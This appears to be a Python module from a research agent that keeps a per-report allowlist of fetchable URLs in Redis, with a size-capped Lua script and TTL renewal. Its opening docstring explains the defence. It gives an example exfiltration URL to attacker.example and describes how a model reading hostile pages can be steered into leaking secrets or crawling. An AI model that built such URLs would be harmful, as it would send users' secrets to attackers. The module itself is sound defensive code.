"""The URL menu: a report fetches only URLs it has seen.

A model that reads hostile pages can be steered to build URLs that carry data out
(`https://attacker.example/?q=<secret>`) or to crawl. So a report may fetch only the urls of its
search results, the https links on pages it fetched, and the URLs its orchestrator seeded from the
briefing. Entries are canonical strings (``worker.guardian.urls``), the same form the fetch uses.
"""

from __future__ import annotations

import functools
import logging
from collections.abc import Awaitable, Iterable
from typing import TYPE_CHECKING

from worker.guardian.urls import canonical_url
from worker.logs import fields
from worker.state import keys
from worker.state.leases import Renewals
from worker.state.memory import relieving

if TYPE_CHECKING:
    from redis.asyncio import Redis

    from worker.config import Settings

log = logging.getLogger("research.menu")

MENU_CAP = 2000

# KEYS[1]: the report's menu set. ARGV: cap, ttl seconds, '1' when this write renews the menu's
# time to live, then canonical URLs. Adds what is new while the set is under the cap; returns
# {added, dropped past the cap, size before, 1 when the time to live was set}. The menu outlives
# the last write that added to it by the budget window: its time to live is the window plus twice
# RENEW_EVERY_S, set by the write that starts the set and renewed by each worker at most once per
# RENEW_EVERY_S (``worker.state.leases.Renewals``), not by every page's links. A write that adds
# nothing (a page whose links are all known already, the common case within a report) changes
# nothing, not even the expiry. One script, so concurrent writers can never push the set past the
# cap; a handful of commands whatever the number of URLs (a page brings up to 500 links).
ADD_SCRIPT = """
local cap = tonumber(ARGV[1])
local size = redis.call('SCARD', KEYS[1])
local added, dropped = 0, 0
if size + #ARGV - 3 <= cap then
  added = redis.call('SADD', KEYS[1], unpack(ARGV, 4))
else
  local known = redis.call('SMISMEMBER', KEYS[1], unpack(ARGV, 4))
  local fresh = {}
  for i = 1, #known do
    if known[i] == 0 then
      fresh[#fresh + 1] = ARGV[i + 3]
    end
  end
  local room = math.max(cap - size, 0)
  local take = math.min(room, #fresh)
  if take > 0 then
    added = redis.call('SADD', KEYS[1], unpack(fresh, 1, take))
  end
  dropped = #fresh - take
end
local renewed = 0
if added > 0 and (size == 0 or ARGV[3] == '1') then
  redis.call('EXPIRE', KEYS[1], ARGV[2])
  renewed = 1
end
return {added, dropped, size, renewed}
"""
# Each worker renews a report's menu's time to live at most this often.
RENEW_EVERY_S = 60.0


def menu_pattern() -> str:
    """Every report's menu key, for a SCAN (report ids are validated: no glob characters)."""
    return keys.menu("*")


def report_of(key: str) -> str:
    """The report a menu key belongs to."""
    return key.removeprefix(keys.menu(""))


class Menu:
    def __init__(self, redis: Redis, settings: Settings) -> None:
        self.enabled = settings.url_menu
        self._redis = redis
        self._ttl_s = settings.budget_window_s + int(2 * RENEW_EVERY_S)
        self._queue = settings.queue_name
        self._script = redis.register_script(ADD_SCRIPT)
        self._renewals = Renewals(RENEW_EVERY_S)

    async def record(self, report_id: str, urls: Iterable[str], *, already_canonical: bool = False) -> int:
        """Put https URLs on the report's menu (others never enter); returns how many were new.

        With the menu off nothing reads it, so nothing is written either. ``already_canonical`` is
        for a fetched page's links, which the reader made canonical: parsing them again would cost
        a page of 500 links tens of milliseconds, and an entry that is not canonical could never
        equal the canonical URL a fetch compares, so it could unlock nothing.
        """
        if not self.enabled:
            return 0
        if already_canonical:
            canonical = list(dict.fromkeys(urls))
        else:
            canonical = list(dict.fromkeys(c for u in urls if (c := canonical_url(u)) is not None))
        if not canonical:
            return 0
        key = keys.menu(report_id)

        # A full Redis makes room from the page cache first: a menu write is part of paid work.
        def add(renew: bool) -> Awaitable[list[int]]:
            args: list[str | int] = [MENU_CAP, self._ttl_s, int(renew), *canonical]
            return relieving(self._redis, self._queue, functools.partial(self._script, keys=[key], args=args))

        # A write that added nothing did not renew: the next write that adds does.
        raw = await self._renewals.carried(report_id, add, lambda reply: bool(int(reply[3])))
        added, dropped, size_before, _ = (int(n) for n in raw)
        # Logged once, by the write that fills the menu; later overflow is only counted.
        if dropped and size_before < MENU_CAP:
            log.warning(
                "url menu full; entries dropped",
                extra=fields(report_id=report_id, dropped=dropped, cap=MENU_CAP),
            )
        return added

    async def contains(self, report_id: str, canonical: str) -> bool:
        return bool(await self._redis.sismember(keys.menu(report_id), canonical))  # type: ignore[misc]

    async def size(self, report_id: str) -> int:
        return int(await self._redis.scard(keys.menu(report_id)))  # type: ignore[misc]
